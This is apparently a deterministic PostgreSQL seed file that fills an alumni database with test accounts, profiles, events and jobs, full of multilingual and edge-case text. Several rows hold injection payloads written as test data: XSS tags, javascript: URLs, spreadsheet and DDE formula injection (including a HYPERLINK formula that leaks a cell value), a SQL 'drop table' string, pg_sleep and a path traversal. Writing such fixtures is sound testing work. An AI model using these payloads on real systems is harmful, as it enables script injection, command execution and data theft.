-- Alumni data to try things on: 640 people, 90 events, 130 jobs. Made from short lists with arithmetic, so that it is the same on
-- every machine and on every day: no random(), no now(). Dates that are to lie ahead lie in the 2040s.
--
-- It holds what real alumni data holds, and what breaks exports: names in sixteen scripts, combining characters, right-to-left text,
-- emoji, quotes, backslashes, tabs, every kind of line end, NULL next to the empty string, long text, text that looks like COPY
-- escapes, like a spreadsheet formula or like HTML. Nothing in it is a validation error. These are its warnings:
--
--     profiles  2 pairs whose e-mail differs in case only · 3 graduation years without four digits
--     jobs      4 expired · 2 without description · 2 with an application_url that is no web address · 2 with a contact_email that is none
--
-- Three people can sign in, all with the password alumni-admin-2026:
--
--     00000000-0000-4000-8000-000000000001  admin@alumni.test   admin
--     00000000-0000-4000-8000-000000000002  super@alumni.test   super_admin
--     00000000-0000-4000-8000-000000000003  member@alumni.test  alumni
--
-- Row n of profiles, events, jobs and roles has n as the last digits of its id. Running this file again changes nothing.

-- accounts -------------------------------------------------------------------------------------------------------------------------

-- The hosted Auth server reads its token columns as text that is never NULL, hence the empty strings.
insert into auth.users (
    id, aud, role, email, encrypted_password, email_confirmed_at,
    confirmation_token, recovery_token, email_change, email_change_token_new, email_change_token_current,
    phone_change, phone_change_token, reauthentication_token,
    raw_app_meta_data, raw_user_meta_data, created_at, updated_at
)
select
    account.id::uuid, 'authenticated', 'authenticated', account.email,
    extensions.crypt('alumni-admin-2026', extensions.gen_salt('bf', 10)),
    timestamptz '2026-01-05 09:00:00+00',
    '', '', '', '', '', '', '', '',
    '{"provider": "email", "providers": ["email"]}', '{}',
    timestamptz '2026-01-05 09:00:00+00', timestamptz '2026-01-05 09:00:00+00'
from (values
    ('00000000-0000-4000-8000-000000000001', 'admin@alumni.test'),
    ('00000000-0000-4000-8000-000000000002', 'super@alumni.test'),
    ('00000000-0000-4000-8000-000000000003', 'member@alumni.test')
) as account (id, email)
on conflict do nothing;

insert into auth.identities (id, user_id, provider, provider_id, identity_data, created_at, updated_at)
select
    users.id, users.id, 'email', users.id::text,
    jsonb_build_object('sub', users.id, 'email', users.email, 'email_verified', true, 'phone_verified', false),
    users.created_at, users.created_at
from auth.users
where users.id in (
    '00000000-0000-4000-8000-000000000001',
    '00000000-0000-4000-8000-000000000002',
    '00000000-0000-4000-8000-000000000003'
)
on conflict do nothing;

-- The hosted Auth server looks people up by instance as well; the column exists there only.
do $seed$
begin
    if exists (
        select
        from pg_catalog.pg_attribute
        where attrelid = 'auth.users'::regclass and attname = 'instance_id' and not attisdropped
    ) then
        update auth.users
        set instance_id = '00000000-0000-0000-0000-000000000000'
        where instance_id is null
            and id in (
                '00000000-0000-4000-8000-000000000001',
                '00000000-0000-4000-8000-000000000002',
                '00000000-0000-4000-8000-000000000003'
            );
    end if;
end
$seed$;

-- roles ----------------------------------------------------------------------------------------------------------------------------

insert into public.roles (id, name, description, created_at)
select
    ('00000000-0000-4000-8003-' || lpad(role.number::text, 12, '0'))::uuid,
    role.name, role.description, timestamptz '2019-08-01 08:00:00+00'
from (values
    (1, 'super_admin', 'Runs the system, and appoints administrators.'),
    (2, 'admin',       'Alumni office: everything but the other administrators'' rights.'),
    (3, 'moderator',   'Keeps events, jobs and profiles tidy.'),
    (4, 'alumni',      'Has graduated.'),
    (5, 'student',     'Has not graduated yet.'),
    (6, 'mentor',      'Offers to advise students.'),
    (7, 'staff',       null)
) as role (number, name, description)
on conflict do nothing;

-- profiles -------------------------------------------------------------------------------------------------------------------------

-- Each culture has 6 given names (with a form for e-mail addresses), 6 family names and a place. Person n takes the culture n mod 20.
with cultures (number, given, handle, family, place, phone) as (values
    ( 0, '{Olivia,George,Amelia,Harry,Isla,Freya}'::text[],  '{olivia,george,amelia,harry,isla,freya}'::text[],
         '{O''Connor,Smith-Jones,MacDonald,"St. John",D''Arcy,Fitzgerald}'::text[],                            'Dublin',               '+353 1 555 '),
    ( 1, '{Jürgen,Käthe,Björn,Sören,Zoë,Weiß}',              '{juergen,kaethe,bjoern,soeren,zoe,weiss}',
         '{Müller-Lüdenscheidt,Großmann,"von der Heide",Östlund,Straßer,Übelacker}',                           'München',              '+49 89 555 '),
    ( 2, '{François,Hélène,Gaëlle,Noël,Anaïs,Œdipe}',        '{francois,helene,gaelle,noel,anais,oedipe}',
         '{Lefèvre,"de l''Épée",Château,Hugoneŭ,"D''Aubigné",Garçon}',                                         'Besançon',             '+33 3 55 55 '),
    ( 3, '{José,María,Íñigo,Begoña,Ángel,Lucía}',            '{jose,maria,inigo,begona,angel,lucia}',
         '{"García Márquez",Núñez,"de la Peña",Ibáñez,"Pérez y Pérez",Güell}',                                 'A Coruña',             '+34 981 55 '),
    ( 4, '{João,Conceição,Antônio,Inês,Luís,Graça}',         '{joao,conceicao,antonio,ines,luis,graca}',
         '{Magalhães,"dos Santos",Gonçalves,Brandão,Simões,"d''Ávila"}',                                       'São Paulo',            '+55 11 555 '),
    ( 5, '{Łukasz,Małgorzata,Żaneta,Jiří,Šárka,Ľubomír}',    '{lukasz,malgorzata,zaneta,jiri,sarka,lubomir}',
         '{Wiśniewski,Dąbrowska,Źdźbło,Dvořák,Nováková,Šťastný}',                                              'Łódź',                 '+48 42 555 '),
    ( 6, '{Réka,Ödön,Zsófia,Şebnem,İbrahim,Işıl}',           '{reka,odon,zsofia,sebnem,ibrahim,isil}',
         '{Szőke,Hűvös,Kovács,Yılmaz,Çağlar,Öztürk}',                                                          'Székesfehérvár',       '+36 22 555 '),
    ( 7, '{Алёна,Дмитрий,Екатерина,Ярослав,Зоя,Лев}',        '{alyona,dmitry,ekaterina,yaroslav,zoya,lev}',
         '{Достоевская,Щербаков,Цветаева,Ї́жакевич,Жуковский,Эйзенштейн}',                                      'Нижний Новгород',      '+7 831 555 '),
    ( 8, '{Ελένη,Γιώργος,Ἀλέξανδρος,Μαρία,Σωκράτης,Ζωή}',    '{eleni,giorgos,alexandros,maria,sokratis,zoe}',
         '{Παπαδόπουλος,Καζαντζάκη,Σεφέρης,Οικονόμου,Ελύτης,Χατζής}',                                          'Θεσσαλονίκη',          '+30 231 055 '),
    ( 9, '{محمد,فاطمة,عبد الرحمن,نور,يوسف,ليلى}',            '{mohammed,fatima,abdelrahman,nour,youssef,layla}',
         '{الخطيب,بن علي,المصري,حدّاد,القرطبي,أبو زيد}',                                                       'القاهرة',              '+20 2 555 '),
    (10, '{שרה,דוד,רחל,יונתן,מרים,נועם}',                    '{sarah,david,rachel,yonatan,miriam,noam}',
         '{כהן,לוי,"בן־דוד",מזרחי,"הר־זהב",שפירא}',                                                            'תל אביב',              '+972 3 555 '),
    (11, '{अनन्या,राहुल,प्रिया,श्रीनिवास,कविता,अर्जुन}',     '{ananya,rahul,priya,shrinivas,kavita,arjun}',
         '{शर्मा,त्रिपाठी,कृष्णमूर्ति,गुप्ता,श्रीवास्तव,जोशी}',                                                'वाराणसी',              '+91 542 55 '),
    (12, '{அருண்,মৌসুমী,மீனாட்சி,রবীন্দ্র,கண்ணன்,সুস্মিতা}', '{arun,mousumi,meenakshi,rabindra,kannan,susmita}',
         '{சுப்பிரமணியம்,চট্টোপাধ্যায়,ராமநாதன்,বন্দ্যোপাধ্যায়,முருகன்,ঠাকুর}',                               'சென்னை',               '+91 44 55 '),
    (13, '{伟,秀英,子涵,敏,浩然,𠮷昌}',                      '{wei,xiuying,zihan,min,haoran,jichang}',
         '{王,欧阳,李,司马,陳,諸葛}',                                                                          '成都',                 '+86 28 555 '),
    (14, '{さくら,健太郎,ゆうき,美咲,ハナコ,翔}',            '{sakura,kentaro,yuki,misaki,hanako,sho}',
         '{佐藤,髙橋,渡邉,小鳥遊,ヴァンダム,山﨑}',                                                            '京都市',               '+81 75 555 '),
    (15, '{민준,서연,지우,하은,도윤,예은}',                  '{minjun,seoyeon,jiwoo,haeun,doyun,yeeun}',
         '{김,이,박,남궁,최,황보}',                                                                            '부산광역시',           '+82 51 555 '),
    -- decomposed: letters and accents are separate characters here
    (16, normalize('{Nguyễn,Phượng,Đức,Hằng,Tuấn,Mỹ}', nfd)::text[], '{nguyen,phuong,duc,hang,tuan,my}',
         normalize('{Trần,"Võ Thị","Lê Văn",Đặng,Huỳnh,Bùi}', nfd)::text[],                                    normalize('Huế', nfd),  '+84 234 55 '),
    (17, '{Ọláyínká,Chidiẹ̀bẹ́re,Adébáyọ̀,Ngọzi,Ṣadé,Ọbáfẹ́mi}',  '{olayinka,chidiebere,adebayo,ngozi,sade,obafemi}',
         '{Adéṣínà,Okonkwọ,Ọ̀ṣúndáre,Nwachukwu,Bámgbóṣé,Ẹkwueme}',                                              'Ìbàdàn',               '+234 2 555 '),
    (18, '{Þórður,Guðrún,Ægir,Kealiʻi,ʻIolana,Hōkū}',        '{thordur,gudrun,aegir,kealii,iolana,hoku}',
         '{Jónsdóttir,Þorláksson,Bjǫrnsson,Kamakawiwoʻole,Kaʻahumanu,Nāmāhoe}',                                'Seyðisfjörður',        '+354 472 '),
    (19, '{สมชาย,พิมพ์ใจ,ნინო,გიორგი,Արամ,አበበ}',             '{somchai,pimjai,nino,giorgi,aram,abebe}',
         '{ศรีสุวรรณ,ณ อยุธยา,ბერიძე,ყიფიანი,Պետրոսյան,ቢቂላ}',                                                  'กรุงเทพมหานคร',        '+66 2 555 ')
),
-- People whose data is awkward in a way of its own. NULL here leaves what everybody has.
awkward (number, first_name, last_name, bio) as (values
    (  1, 'Ada',                            'Adminová',                             'Runs the alumni office.'),
    (  2, 'Sol',                            'Superuser',                            'Looks after the system.'),
    (  3, 'Mia',                            'Member',                               'Class of 2015.'),
    (601, '<img src=x onerror=alert(1)>',   '</script><script>alert("x")</script>', '<a href="javascript:alert(1)">my page</a> &amp; &#x27;more&#x27;'),
    (602, '=1+1',                           '@SUM(A1:A9)',                          '=HYPERLINK("https://example.com/?"&A1,"Click")'),
    (603, '+1-555',                         '-2+3+cmd|'' /C calc''!A0',             E'\t=1+1\r\n=2+2'),
    (604, 'Robert''); drop table profiles;--', 'Tables',                            $$It's "quoted", 'twice', `ticked`, $tagged$ and ''doubled''.$$),
    (605, '\N',                             'NULL',                                 'null'),
    (606, 'Null',                           'Undefined',                            E'the next line ends COPY if nobody is careful\n\\.\nand this one must survive'),
    (607, '\.',                             '\\',                                   E'C:\\new\\table\\readme.txt \\N \\t \\x41 \\101 \\'),
    (608, 'Tabitha	Tabs',                  'Newline' || chr(10) || 'Jones',        E'a\tb\t\tc\n\nblank line above\rcarriage\r\nboth\x0Bvertical\x0Cfeed\x08back\x07bell\x01one\x7Fdel'),
    (609, U&'Rene\0301e',                   U&'Ame\0301lie\030A\0323',              U&'Decomposed: e\0301 a\030A o\0308\0304 \1112\1161\11AB; composed: \00E9 \00E5 \022B \D55C'),
    (610, U&'\202Eesrever\202C',            U&'\2067\0634\0631\0643\0629\2069 Ltd', U&'Overrides \202D \202E \200E \200F \2066 \2069, joiners \200B \200C \200D \2060, \FEFF mark, \00A0 space, \2028 line, \2029 paragraph'),
    (611, '👩🏽‍🚀 Neil',                        '🏳️‍🌈🇺🇳',                                '👨‍👩‍👧‍👦 family of four 🤷🏿‍♀️ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🧑‍🎓🎓 1️⃣ 🫠'),
    (612, 'Z̷̤̈́a̸͎͐l̵̞̕g̸͓̈́o̶̡͂',                     'H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘',                      U&'\+01F600 \+10FFFD \FFFD \E000 \+020BB7: beyond the basic plane, private use, replacement'),
    (613, 'Wolfeschlegelsteinhausenbergerdorff', 'Hubert Blaine Sr. ' || repeat('von Altona ', 20),
          repeat('Thirteen years in shipping, then a turn to teaching: “learn, unlearn, relearn”. Δόξα τῷ Θεῷ. ', 160)),
    (614, '{"json": true}',                 '[1, 2, 3]',                            '{"a": "\u0041\n", "b": null, "c": [1e400, -0.0]}'),
    (615, '{NULL,"array, with comma"}',     '(row,"with "" quote")',                '["2020-01-01","2021-01-01")'),
    (616, '0',                              'false',                                '0x1F 1e5 00123 1,234.50 NaN Infinity 2020-02-30 24:00:00 +00'),
    (617, ' leading',                       'trailing ',                            '   '),
    (618, 'Comma, Inc.',                    'Semi;colon|pipe',                      E'"one","two"\n"three","fo""ur"'),
    (619, '%s %I %L $1 :name',              '?param ${env} {{mustache}} #{ruby}',   '-- comment /* block */ ; select pg_sleep(10); ../../etc/passwd %00'),
    (620, 'İ ı ſ ß ﬃ Ǆ',                    'ΣΑΣ ΐ ẞ',                              'Letters that change their length when their case changes.')
),
texts (degrees, majors, companies, job_titles, skills, bios) as (values (
    '{BSc,BA,MSc,MA,PhD,MBA,BEng,LLB,MD,Dipl.-Ing.}'::text[],
    '{Computer Science,History of Art,Mechanical Engineering,Law,Medicine,Économie,Музыка,土木工学,Biology,"Philosophy, Politics & Economics",Mathematics}'::text[],
    '{Acme & Sons,"Müller GmbH & Co. KG",株式会社テスト,"O''Reilly Books",Médecins du Monde,"University of Łódź","Smith, Smith & Smith",ООО «Ромашка»,self-employed,"\"The Company\""}'::text[],
    '{Software Engineer,Curator,Head of Research,Rechtsanwältin,Nurse,Professor,CEO / Founder,"Analyst, Senior",Bauingenieur,Teacher,Cellist,Data Steward,Retired}'::text[],
    '{mentoring,public speaking,CV review,"contracts, tax",C++,日本語,"\"hands-on\"",fund-raising}'::text[],
    array[
        null,
        '',
        'Happy to meet students from my old department.',
        E'Two lines about me:\nI design bridges, and I cross them.',
        'Grew up by the sea; moved inland; misses the sea 🌊.',
        E'Highlights\n\t• first in family to graduate\n\t• "Best Thesis" 2009\n\t• père de deux enfants',
        E'Je travaille à l''étranger depuis dix ans.\r\nÉcrivez-moi !',
        '人生は短く、術のみちは長い。',
        'Says: "Don''t panic." Path of choice: C:\alumni\notes.'
    ]
)),
people as (
    select
        number,
        culture.*,
        1 + number / 20 % 6 as given_number,
        1 + (number / 120 + number / 20) % 6 as family_number
    from generate_series(1, 640) as number
    join cultures as culture (culture_number, given, handle, family, place, phone) on culture_number = number % 20
)
insert into public.profiles (
    id, first_name, last_name, email, phone, graduation_year, degree, major, company, job_title, bio, avatar_url, location,
    linkedin_url, skills, preferences, is_verified, created_at, updated_at
)
select
    ('00000000-0000-4000-8000-' || lpad(number::text, 12, '0'))::uuid,
    coalesce(awkward.first_name, given[given_number]),
    coalesce(awkward.last_name, family[family_number]),
    case
        when number = 1 then 'admin@alumni.test'
        when number = 2 then 'super@alumni.test'
        when number = 3 then 'member@alumni.test'
        when number in (100, 200) then upper(handle[given_number]) || (number - 20) || '@Example.ORG'  -- warning: as 80 and 180
        when number in (80, 180) then handle[1 + (number + 20) / 20 % 6] || number || '@example.org'
        when number % 53 = 0 then null
        when number % 17 = 0 then handle[given_number] || '+alumni' || number || '@mail.example.co.uk'
        else handle[given_number] || number || (array['@example.com', '@example.org', '@alumni.example.edu'])[1 + number % 3]
    end,
    case number % 7 when 0 then null when 1 then '' else phone || lpad((number * 37 % 10000)::text, 4, '0') end,
    case
        when number = 150 then 98       -- warning
        when number = 250 then 7        -- warning
        when number = 350 then 19999    -- warning
        when number > 3 and number % 11 = 0 then 2040 + number % 4
        else 1961 + number * 29 % 65
    end,
    case when number % 13 > 0 then degrees[1 + number * 3 % 10] end,
    majors[1 + number * 5 % 11],
    case number % 9 when 0 then null when 4 then '' else companies[1 + number * 3 % 10] end,
    job_titles[1 + number * 7 % 13],
    coalesce(awkward.bio, bios[1 + number * 4 % 9]),
    case when number % 4 = 0 then 'https://pictures.example.org/' || number || '.jpg?size=200&crop=face#top' end,
    place,
    case when number % 3 = 0 then 'https://www.linkedin.com/in/' || handle[given_number] || '-' || number end,
    case when number % 5 = 0 then '{}' else skills[1 + number % 4 : 1 + number % 8] end,
    case when number % 6 = 0 then '{}' else jsonb_build_object('newsletter', number % 2 = 0, 'language', (array['en', 'de', null, 'ar'])[1 + number % 4], 'zoom', number % 5 * 0.25) end,
    number % 8 > 0,
    timestamptz '2019-09-01 08:15:00.125+00' + number * interval '26 hours 37 minutes 11.001003 seconds',
    timestamptz '2024-02-29 12:00:00+00' + number * interval '17 hours 5 minutes 0.5 seconds'
from people
cross join texts
left join awkward using (number)
on conflict do nothing;

-- Everybody is alumni or student; some are more than that.
insert into public.user_roles (profile_id, role_id, assigned_at)
select profile.id, role.id, profile.created_at
from (
    select profiles.*, right(profiles.id::text, 12)::bigint as number
    from public.profiles
    where profiles.id between '00000000-0000-4000-8000-000000000001' and '00000000-0000-4000-8000-000000000640'
) as profile
join public.roles as role on
    case role.name
        when 'student' then profile.graduation_year between 2040 and 2049
        when 'alumni' then profile.graduation_year not between 2040 and 2049
        when 'super_admin' then profile.number = 2
        when 'admin' then profile.number in (1, 20, 21)
        when 'moderator' then profile.number between 22 and 26
        when 'mentor' then profile.number % 10 = 4
        when 'staff' then profile.number in (1, 2) or profile.number between 20 and 40
    end
on conflict do nothing;

-- events ---------------------------------------------------------------------------------------------------------------------------

-- 1 to 70 are over, 71 to 90 lie ahead. Every third has no limit of seats, every fifth takes place online.
with texts (titles, places, descriptions) as (values (
    array[
        'Reunion of the class of %s', 'Fireside talk no. %s: "What I would tell my younger self"', 'Careers fair, hall %s',
        'Jahrestreffen %s – Fördererkreis & Freunde', 'Conférence n° %s : l''avenir de la santé', '同窓会 第%s回', 'لقاء الخريجين رقم %s',
        'Встреча выпускников № %s', 'Hackathon %s 🚀', 'Mentoring breakfast (%s)', '100%% remote: pub quiz %s'
    ],
    array['Aula Magna, main building', 'Café "Zur Post"', 'كلية الهندسة، القاعة ٤', 'Alumni House' || chr(10) || '2nd floor', '東京タワー', ''],
    array[
        'Old friends, short speeches, long dinner. Children are welcome; dogs too, if they have graduated.',
        E'Programme:\n\t18:00\tdoors\n\t18:30\twelcome\n\t19:00\ttalk\n\n\\.\n\nBring: "something to write with".',
        'Dress code: none. Path to the slides: \\server\share\new\talks. Price: $5 or 5 €; 50 % off for students.',
        E'Liebe Ehemalige,\r\nwir freuen uns auf Sie!\r\n\r\nIhr Fördererkreis',
        '<p>Come &amp; <b>join</b> us!</p><script>alert(''not executed'')</script>',
        '=CONCATENATE("R","S","V","P") by mail, please',
        'نلتقي في الحديقة بعد الغروب. Parking at gate B.',
        '\N'
    ]
))
insert into public.events (
    id, title, description, start_date, end_date, location, capacity, is_virtual, virtual_url, created_by, created_at, updated_at
)
select
    ('00000000-0000-4000-8001-' || lpad(number::text, 12, '0'))::uuid,
    format(titles[1 + number % 11], number),
    case number
        when 42 then repeat('The minutes of the meeting, in full: ' || descriptions[2] || ' ', 100)
        else descriptions[1 + number * 3 % 8]
    end,
    starts,
    starts + (array[interval '90 minutes', interval '3 hours', interval '8 hours', interval '52 hours', interval '1 microsecond'])[1 + number % 5],
    case when number % 5 = 0 then null else places[1 + number % 6] end,
    case number % 3 when 0 then null else (array[1, 12, 40, 250, 5000, 2147483647])[1 + number % 6] end,
    number % 5 = 0,
    case when number % 5 = 0 then 'https://meet.example.org/alumni/' || number || '?pwd=a%20b&x=1' end,
    case when number % 6 > 0 then ('00000000-0000-4000-8000-' || lpad((20 + number % 7)::text, 12, '0'))::uuid end,
    least(starts, timestamptz '2026-03-01 10:00:00+00') - interval '1500 hours',
    least(starts, timestamptz '2026-03-01 10:00:00+00') - interval '700 hours'
from texts
cross join generate_series(1, 90) as number
cross join lateral (
    select case
        when number <= 70 then timestamptz '2005-01-21 17:00:00+00' + number * interval '2500 hours'
        else timestamptz '2041-05-04 16:00:00+00' + (number - 70) * interval '1900 hours 30 minutes'
    end
) as schedule (starts)
on conflict do nothing;

-- jobs -----------------------------------------------------------------------------------------------------------------------------

-- Half of them stay open until filled, the others until a day in the 2040s. The exceptions are the warnings.
with texts (titles, companies, places, types, salaries, descriptions) as (values (
    array[
        'Software Engineer (m/f/d)', 'Curator of Prints & Drawings', 'Lecturer, "Digital Humanities"', 'Pflegefachkraft – Nachtdienst',
        'Ingénieur·e d''études', '土木技術者', 'مهندسة برمجيات', 'C/C++ developer; Rust a plus', 'Data Steward (50 %)', '+1 for our team'
    ],
    array['Acme & Sons', 'Museum of Modern Art', 'Université d''Évry', 'Klinikum rechts der Isar', '株式会社テスト', 'شركة النيل', 'O''Reilly Books', 'N/A Ltd', '"Quoted" Inc.'],
    array['Remote', 'Łódź, Poland', 'Zürich', 'Hà Nội', 'São Paulo / hybrid', 'القاهرة', null],
    array['full_time', 'part_time', 'contract', 'internship', 'volunteer'],
    array['€ 55,000 – 70,000', null, '', 'TV-L E13 (100 %)', '¥6,000,000〜', 'competitive', '>£40k', '-'],
    array[
        'You build what alumni use every day. We offer time, trust and tea.',
        E'Tasks\n- plan\n- build\n- "own" it\n\nWe offer\n- 30 days of leave\n- a desk by the window',
        E'Tabs\tbetween\tcolumns, and a path: D:\\jobs\\new\\2026\\.\r\nApply soon.\r\n',
        'Wir suchen Verstärkung für Straßenbau & Brücken: Dipl.-Ing. (m/w/d) ab sofort.',
        '<ul><li onmouseover="alert(1)">Great salary</li></ul>',
        '@everyone: =2+5+cmd|'' /C calc''!A0',
        '募集要項：経験者優遇。詳細はお問い合わせください。',
        E'\\N\n\\.\n\\\\'
    ]
))
insert into public.jobs (
    id, title, company_name, description, location, job_type, salary_range, application_url, contact_email, posted_by, expires_at,
    is_active, created_at, updated_at
)
select
    ('00000000-0000-4000-8002-' || lpad(number::text, 12, '0'))::uuid,
    titles[1 + number % 10],
    companies[1 + number * 2 % 9],
    case number
        when 61 then null   -- warning
        when 62 then E' \n' -- warning
        when 77 then repeat(descriptions[7] || E'\n' || descriptions[3], 120)
        else descriptions[1 + number * 5 % 8]
    end,
    places[1 + number % 7],
    types[1 + number * 2 % 5],
    salaries[1 + number * 3 % 8],
    case number
        when 63 then 'www.example.com/careers'    -- warning
        when 64 then 'javascript:alert(1)'        -- warning
        else case when number % 4 = 0 then null else format('https://careers.example.com/apply/%s?src=alumni&ref=%s%%20x', number, number * 31) end
    end,
    case number
        when 65 then 'personnel at example.com'   -- warning
        when 66 then 'ask@'                       -- warning
        else case when number % 3 = 0 then null else format('hr+%s@example.com', number) end
    end,
    ('00000000-0000-4000-8000-' || lpad((4 + number * 13 % 590)::text, 12, '0'))::uuid,
    case
        when number between 31 and 34 then timestamptz '2021-03-31 23:59:59.999999+00' + number * interval '500 hours' -- warning
        when number % 2 = 0 then null
        else timestamptz '2041-01-31 22:59:59+00' + number * interval '480 hours'
    end,
    number not between 31 and 34 and number % 9 > 0,
    timestamptz '2020-05-01 07:00:00+00' + number * interval '390 hours 1 minute 1.5 seconds',
    timestamptz '2020-05-02 07:00:00+00' + number * interval '390 hours 1 minute 1.5 seconds'
from texts
cross join generate_series(1, 130) as number
on conflict do nothing;
